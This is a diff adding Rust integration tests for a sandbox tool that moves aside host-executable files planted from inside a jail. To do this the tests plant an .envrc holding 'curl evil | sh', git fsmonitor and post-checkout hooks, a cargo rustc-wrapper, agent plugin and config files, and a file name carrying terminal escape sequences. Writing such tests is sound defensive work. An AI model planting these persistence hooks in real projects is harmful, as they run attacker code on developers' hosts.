@@ -1,0 +1,535 @@
+//! Nothing a jailed command writes under a writable path may run on the host later: what it
+//! plants (protected names at any depth, repositories by their layout, submodule git
+//! directories) is moved aside after the run, also when it takes the permissions away from the
+//! directories on the way, and jail's warnings never carry its escape sequences.
+//!
+//! Each test plants from inside (shell, python, real git), checks from the host that nothing is
+//! left where the host would run it, and runs the same planting without jail as its control, so
+//! that it can fail.
+
+mod common;
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+
+use common::{Fixture, Layer, Who, full_level_or_skip, users};
+
+/// The layer sets every planting test runs with: all of them, and the fallback without the mount
+/// view (Docker's default profile), where the quarantine is all that stands.
+const MODES: &[&[Layer]] = &[&[], &[Layer::Mount]];
+
+/// Runs `script` under `--rw repo` (plus `flags`) as the fixture's user.
+fn plant(fx: &Fixture, flags: &[&str], script: &str, disabled: &[Layer]) -> common::Run {
+    let repo = fx.p("repo");
+    let mut args = vec!["--rw", repo.as_str(), "--cwd", repo.as_str()];
+    args.extend(flags);
+    args.extend(["--", "/bin/sh", "-c", script]);
+    fx.jail_with(&args, disabled, &[])
+}
+
+/// The same script without jail: the control that shows the check can fail.
+fn plant_bare(fx: &Fixture, script: &str) {
+    let out = fx
+        .command("/bin/sh".as_ref(), &["-c", script])
+        .current_dir(&fx.repo)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+/// Which of `paths` (relative to the project) still exist.
+fn left(fx: &Fixture, paths: &[&str]) -> Vec<String> {
+    paths
+        .iter()
+        .filter(|p| std::fs::symlink_metadata(fx.repo.join(p)).is_ok())
+        .map(|p| p.to_string())
+        .collect()
+}
+
+/// Every path under the project whose name holds `.jail-quarantine-`.
+fn quarantined(dir: &Path) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        let _ = std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o755));
+        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
+            let name = e.file_name().to_string_lossy().into_owned();
+            if name.contains(".jail-quarantine-") {
+                out.push(name);
+            } else if e.file_type().is_ok_and(|t| t.is_dir()) {
+                stack.push(e.path());
+            }
+        }
+    }
+    out
+}
+
+fn assert_all_moved(fx: &Fixture, run: &common::Run, planted: &[&str], what: &str) {
+    let who = fx.who;
+    assert_eq!(run.code, Some(0), "{what} as {who:?}: {}", run.describe());
+    assert_eq!(
+        left(fx, planted),
+        Vec::<String>::new(),
+        "{what} as {who:?}: left where the host would run it\n{}",
+        run.describe()
+    );
+    for p in planted {
+        assert!(
+            run.stderr.contains(p),
+            "{what} as {who:?}: {p} not named\n{}",
+            run.stderr
+        );
+    }
+}
+
+#[test]
+fn protected_names_planted_in_nested_projects_are_moved_aside() {
+    if !full_level_or_skip("planted-depth") {
+        return;
+    }
+    let planted = [
+        "app/.envrc",
+        "app/.claude",
+        "app/.husky",
+        "a/b/c/d/e/f/g/h/.vscode",
+        "node_modules/dep/.mcp.json",
+        "tools/.cargo/config.toml",
+    ];
+    let script = "mkdir -p app/.claude app/.husky a/b/c/d/e/f/g/h/.vscode node_modules/dep && \
+        echo 'curl evil | sh' > app/.envrc && \
+        echo '{\"hooks\":{}}' > app/.claude/settings.json && \
+        printf '#!/bin/sh\\nid\\n' > app/.husky/pre-commit && \
+        echo '{\"tasks\":[]}' > a/b/c/d/e/f/g/h/.vscode/tasks.json && \
+        echo '{}' > node_modules/dep/.mcp.json && \
+        python3 -c \"import os; os.makedirs('tools/.cargo'); open('tools/.cargo/config.toml','w').write('[build]\\nrustc-wrapper=\\'/tmp/x\\'\\n')\" && \
+        echo ok > app/main.rs";
+    for who in users() {
+        for disabled in MODES {
+            let fx = Fixture::new(who, "depth");
+            let run = plant(&fx, &[], script, disabled);
+            assert_all_moved(&fx, &run, &planted, &format!("depth {disabled:?}"));
+            assert!(fx.repo.join("app/main.rs").exists(), "plain files stay");
+            assert_eq!(quarantined(&fx.repo).len(), planted.len());
+        }
+        let fx = Fixture::new(who, "depth-bare");
+        plant_bare(&fx, script);
+        assert_eq!(left(&fx, &planted).len(), planted.len(), "control");
+    }
+}
+
+#[test]
+fn every_protected_name_is_moved_aside_when_created() {
+    // The whole list, one nested project deep: a name the list holds must not survive a run.
+    if !full_level_or_skip("planted-list") {
+        return;
+    }
+    let mut paths = Vec::new();
+    for p in jail::policy::PROTECTED {
+        let pattern = p.pattern.replace('*', "x");
+        // .git/* entries need a repository: a new .git is itself moved aside whole.
+        if pattern.starts_with(".git/") {
+            continue;
+        }
+        paths.push(format!("nested/{pattern}"));
+    }
+    let script: String = paths
+        .iter()
+        .map(|p| {
+            let parent = Path::new(p).parent().unwrap().display().to_string();
+            format!("mkdir -p '{parent}' && echo planted > '{p}' && ")
+        })
+        .collect::<String>()
+        + "true";
+    let rels: Vec<&str> = paths.iter().map(String::as_str).collect();
+    for who in users() {
+        let fx = Fixture::new(who, "list");
+        let run = plant(&fx, &[], &script, &[]);
+        assert_all_moved(&fx, &run, &rels, "the list");
+        let fx = Fixture::new(who, "list-bare");
+        plant_bare(&fx, &script);
+        assert_eq!(left(&fx, &rels).len(), rels.len(), "control");
+    }
+}
+
+/// A git repository in the fixture's project, made by the fixture's user.
+fn git_project(fx: &Fixture) {
+    let git = |args: &[&str]| {
+        let out = fx
+            .command("git".as_ref(), &[&["-C", &fx.p("repo")], args].concat())
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "git {args:?}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    };
+    git(&["init", "-q"]);
+    git(&[
+        "-c",
+        "user.name=t",
+        "-c",
+        "user.email=t@t",
+        "commit",
+        "-q",
+        "--allow-empty",
+        "-m",
+        "i",
+    ]);
+}
+
+#[test]
+fn repositories_are_recognised_by_layout_and_their_fsmonitor_never_runs() {
+    // git takes any directory with HEAD, objects/ and refs/ as a repository, whatever its name;
+    // its config's core.fsmonitor runs on the host's next git status there.
+    if !full_level_or_skip("planted-bare") {
+        return;
+    }
+    let planted = [
+        "sub/vendor/lib.git",
+        "sub/tools/cache",
+        ".git/modules/lib/foo",
+        ".git/hooks/post-checkout",
+    ];
+    for who in users() {
+        for disabled in MODES {
+            let fx = Fixture::new(who, "bare");
+            git_project(&fx);
+            let marker = fx.dir.join("fsmonitor-ran");
+            let monitor = fx.dir.join("monitor.sh");
+            std::fs::write(&monitor, format!("#!/bin/sh\ntouch {}\n", marker.display())).unwrap();
+            std::fs::set_permissions(&monitor, std::fs::Permissions::from_mode(0o755)).unwrap();
+            fx.give_to(who);
+            let script = format!(
+                "mkdir -p sub/vendor && git init -q --bare sub/vendor/lib.git && git -C sub/vendor/lib.git config core.fsmonitor {m} && \
+                 git -C sub/vendor/lib.git config core.bare false && git -C sub/vendor/lib.git config core.worktree .. && \
+                 mkdir -p sub/tools && git init -q --bare sub/tools/cache && \
+                 git -C sub/tools/cache config core.fsmonitor {m} && git -C sub/tools/cache config core.bare false && \
+                 git -C sub/tools/cache config core.worktree .. && \
+                 mkdir -p .git/modules/lib/foo/objects .git/modules/lib/foo/refs .git/modules/lib/foo/hooks && \
+                 echo 'ref: refs/heads/main' > .git/modules/lib/foo/HEAD && \
+                 printf '[core]\\n\\tfsmonitor = {m}\\n' > .git/modules/lib/foo/config && \
+                 mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch {mk}\\n' > .git/hooks/post-checkout",
+                m = monitor.display(),
+                mk = marker.display(),
+            );
+            let run = plant(&fx, &[], &script, disabled);
+            if disabled.is_empty() {
+                // With the mount view, .git/hooks is read-only from the start.
+                assert!(
+                    !fx.repo.join(".git/hooks/post-checkout").exists(),
+                    "{who:?}: {}",
+                    run.describe()
+                );
+            }
+            assert_eq!(
+                left(&fx, &planted),
+                Vec::<String>::new(),
+                "{who:?} {disabled:?}: {}",
+                run.describe()
+            );
+            for dir in ["sub/vendor/lib.git", "sub/tools/cache"] {
+                assert!(
+                    run.stderr.contains(dir),
+                    "{who:?}: {dir} not named\n{}",
+                    run.stderr
+                );
+            }
+            // The host's git in the directories where the repositories were: nothing runs.
+            for dir in [
+                "sub/vendor/lib.git",
+                "sub/tools/cache",
+                "sub/vendor",
+                "sub/tools",
+            ] {
+                let _ = fx
+                    .command("git".as_ref(), &["status"])
+                    .current_dir(fx.repo.join(dir))
+                    .env("GIT_CEILING_DIRECTORIES", fx.repo.display().to_string())
+                    .output();
+            }
+            assert!(
+                !marker.exists(),
+                "{who:?} {disabled:?}: a planted fsmonitor ran"
+            );
+        }
+        // Control: planted without jail, the host's git runs the fsmonitor.
+        let fx = Fixture::new(who, "bare-ctl");
+        let marker = fx.dir.join("fsmonitor-ran");
+        let monitor = fx.dir.join("monitor.sh");
+        std::fs::write(&monitor, format!("#!/bin/sh\ntouch {}\n", marker.display())).unwrap();
+        std::fs::set_permissions(&monitor, std::fs::Permissions::from_mode(0o755)).unwrap();
+        fx.give_to(who);
+        plant_bare(
+            &fx,
+            &format!(
+                "mkdir -p sub/vendor && git init -q --bare sub/vendor/lib.git && git -C sub/vendor/lib.git config core.fsmonitor {} && \
+                 git -C sub/vendor/lib.git config core.bare false && git -C sub/vendor/lib.git config core.worktree ..",
+                monitor.display()
+            ),
+        );
+        let _ = fx
+            .command("git".as_ref(), &["status"])
+            .current_dir(fx.repo.join("sub/vendor/lib.git"))
+            .output();
+        assert!(
+            marker.exists(),
+            "control: the fsmonitor should run without jail"
+        );
+    }
+}
+
+#[test]
+fn taking_the_permissions_away_does_not_keep_a_planted_entry_in_place() {
+    // As the owner of those directories, the supervisor adds back what the move needs and puts
+    // the modes back after.
+    if !full_level_or_skip("planted-chmod") {
+        return;
+    }
+    let planted = ["app/.envrc", ".envrc", "locked/inner/.mcp.json"];
+    let script = "mkdir -p app locked/inner && echo x > app/.envrc && echo x > .envrc && \
+        echo '{}' > locked/inner/.mcp.json && chmod 555 app . && chmod 000 locked";
+    for who in users() {
+        for disabled in MODES {
+            let fx = Fixture::new(who, "chmod");
+            let run = plant(&fx, &[], script, disabled);
+            let mode = |p: &str| {
+                std::fs::metadata(fx.repo.join(p))
+                    .unwrap()
+                    .permissions()
+                    .mode()
+                    & 0o777
+            };
+            assert_eq!(mode(""), 0o555, "{who:?}: the root's mode is the command's");
+            assert_eq!(mode("app"), 0o555);
+            assert_eq!(mode("locked"), 0o000);
+            std::fs::set_permissions(
+                fx.repo.join("locked"),
+                std::fs::Permissions::from_mode(0o755),
+            )
+            .unwrap();
+            assert_all_moved(&fx, &run, &planted, &format!("chmod {disabled:?}"));
+            for d in ["", "app"] {
+                std::fs::set_permissions(fx.repo.join(d), std::fs::Permissions::from_mode(0o755))
+                    .unwrap();
+            }
+        }
+    }
+}
+
+#[test]
+fn a_tree_deeper_than_the_walk_is_moved_aside_where_the_walk_stopped() {
+    // The walk lists 128 levels: a directory below that the command created is moved aside
+    // whole, since what it holds is unknown; a tree that deep at the start refuses the run.
+    if !full_level_or_skip("planted-deep") {
+        return;
+    }
+    let deep: String = (0..140).map(|_| "d/").collect();
+    for who in users() {
+        let fx = Fixture::new(who, "deep");
+        let script = format!("mkdir -p {deep} && echo x > {deep}.envrc");
+        let run = plant(&fx, &[], &script, &[]);
+        assert_eq!(run.code, Some(0), "{who:?}: {}", run.describe());
+        assert!(
+            !fx.repo.join(&deep).join(".envrc").exists(),
+            "{who:?}: {}",
+            run.describe()
+        );
+        assert!(run.stderr.contains("cannot list"), "{}", run.stderr);
+        // Now the tree is that deep before the run: refused before anything runs.
+        std::fs::create_dir_all(fx.repo.join(&deep)).unwrap();
+        fx.give_to(who);
+        let run = plant(&fx, &[], "echo RAN", &[]);
+        assert_eq!(run.code, Some(125), "{}", run.describe());
+        assert!(
+            !run.stdout.contains("RAN") && run.stderr.contains("levels deep"),
+            "{}",
+            run.describe()
+        );
+    }
+}
+
+#[test]
+fn names_with_escape_sequences_reach_the_terminal_escaped() {
+    if !full_level_or_skip("planted-escape") {
+        return;
+    }
+    // Erase-line, an OSC 52 clipboard write and a bidirectional override.
+    let name = "x\u{1b}[2K\u{1b}]52;c;aGVsbG8=\u{7}\u{202e}.git";
+    for who in users() {
+        let fx = Fixture::new(who, "escape");
+        let dir = format!("{name}/sub");
+        let script =
+            format!("mkdir -p '{dir}' && touch '{dir}/.envrc' && git init -q --bare '{name}.git2'");
+        let run = plant(&fx, &[], &script, &[]);
+        assert_eq!(run.code, Some(0), "{}", run.describe());
+        assert!(
+            !run.stderr.contains('\u{1b}')
+                && !run.stderr.contains('\u{7}')
+                && !run.stderr.contains('\u{202e}'),
+            "{who:?}: raw control characters reached the terminal: {:?}",
+            run.stderr
+        );
+        assert!(
+            run.stderr.contains("\\u{1b}[2K"),
+            "{who:?}: {:?}",
+            run.stderr
+        );
+        assert!(!fx.repo.join(&dir).join(".envrc").exists());
+    }
+}
+
+#[test]
+fn a_name_given_exactly_with_rw_is_the_users_to_write() {
+    if !full_level_or_skip("planted-exempt") {
+        return;
+    }
+    for who in users() {
+        let fx = Fixture::new(who, "exempt");
+        std::fs::create_dir_all(fx.repo.join(".vscode")).unwrap();
+        fx.give_to(who);
+        let vscode = fx.p("repo/.vscode");
+        let run = plant(
+            &fx,
+            &["--rw", &vscode],
+            "echo '{}' > .vscode/tasks.json && echo x > .envrc",
+            &[],
+        );
+        assert_eq!(run.code, Some(0), "{}", run.describe());
+        assert!(
+            fx.repo.join(".vscode/tasks.json").exists(),
+            "{}",
+            run.describe()
+        );
+        assert_eq!(left(&fx, &[".envrc"]), Vec::<String>::new());
+        let _ = Who::Root;
+    }
+}
+
+#[test]
+fn agent_state_that_carries_code_does_not_survive_a_run() {
+    // Each agent profile keeps the agent's state writable; what the agent runs or loads as code
+    // at its next start on the host (its .env, plugins, tools, launcher, shell snapshots,
+    // configs with MCP commands) is read-only where it exists and moved aside where it appears.
+    if !full_level_or_skip("planted-agent-state") {
+        return;
+    }
+    let cases: &[(&str, &[&str])] = &[
+        (
+            "opencode",
+            &[
+                ".config/opencode/opencode.jsonc",
+                ".config/opencode/plugins/evil.js",
+                ".config/opencode/tools/evil.ts",
+                ".config/opencode/node_modules/p/index.js",
+                ".cache/opencode/node_modules/p/index.js",
+            ],
+        ),
+        (
+            "claude-code",
+            &[
+                ".claude/settings.json",
+                ".claude/local/claude",
+                ".claude/shell-snapshots/snapshot-bash-1.sh",
+                ".claude/hooks/pre.sh",
+            ],
+        ),
+        (
+            "codex",
+            &[
+                ".codex/.env",
+                ".codex/config.toml",
+                ".codex/skills/x/SKILL.md",
+            ],
+        ),
+        (
+            "gemini-cli",
+            &[
+                ".gemini/.env",
+                ".gemini/settings.json",
+                ".gemini/extensions/x/e.json",
+            ],
+        ),
+        ("aider", &[".aider/oauth-keys.env"]),
+    ];
+    for who in users() {
+        for (profile, paths) in cases {
+            let fx = Fixture::new(who, "agent-state");
+            // One existing file of each kind (read-only from the start), the rest new.
+            let existing = fx.home.join(paths[0]);
+            std::fs::create_dir_all(existing.parent().unwrap()).unwrap();
+            if !existing.exists() {
+                std::fs::write(&existing, "users\n").unwrap();
+            }
+            fx.give_to(who);
+            let before = std::fs::read(&existing).unwrap();
+            let script: String = paths
+                .iter()
+                .map(|p| {
+                    let p = fx.home.join(p);
+                    format!(
+                        "mkdir -p '{}'; echo 'planted' >> '{}'; ",
+                        p.parent().unwrap().display(),
+                        p.display()
+                    )
+                })
+                .collect::<String>()
+                + "true";
+            let run = fx.jail(&["--profile", profile, "--", "/bin/sh", "-c", &script]);
+            assert_eq!(
+                run.code,
+                Some(0),
+                "{profile} as {who:?}: {}",
+                run.describe()
+            );
+            assert_eq!(
+                std::fs::read(&existing).unwrap(),
+                before,
+                "{profile} as {who:?}: {} changed\n{}",
+                paths[0],
+                run.describe()
+            );
+            for p in &paths[1..] {
+                let text = std::fs::read_to_string(fx.home.join(p)).unwrap_or_default();
+                assert!(
+                    !text.contains("planted"),
+                    "{profile} as {who:?}: {p} was planted and stayed\n{}",
+                    run.describe()
+                );
+            }
+        }
+        // Control: the same directories writable without the agent profile's rules.
+        let fx = Fixture::new(who, "agent-state-ctl");
+        let (cfg, cache) = (
+            fx.home.join(".config/opencode"),
+            fx.home.join(".cache/opencode"),
+        );
+        std::fs::create_dir_all(&cfg).unwrap();
+        std::fs::create_dir_all(&cache).unwrap();
+        fx.give_to(who);
+        let plugin = cfg.join("plugins/evil.js");
+        let script = format!(
+            "mkdir -p {0} && echo planted > {1}",
+            plugin.parent().unwrap().display(),
+            plugin.display()
+        );
+        let run = fx.jail(&[
+            "--rw",
+            &cfg.display().to_string(),
+            "--",
+            "/bin/sh",
+            "-c",
+            &script,
+        ]);
+        assert!(run.ok(), "{}", run.describe());
+        assert!(
+            plugin.exists(),
+            "control: without the profile the plugin stays"
+        );
+    }
+}
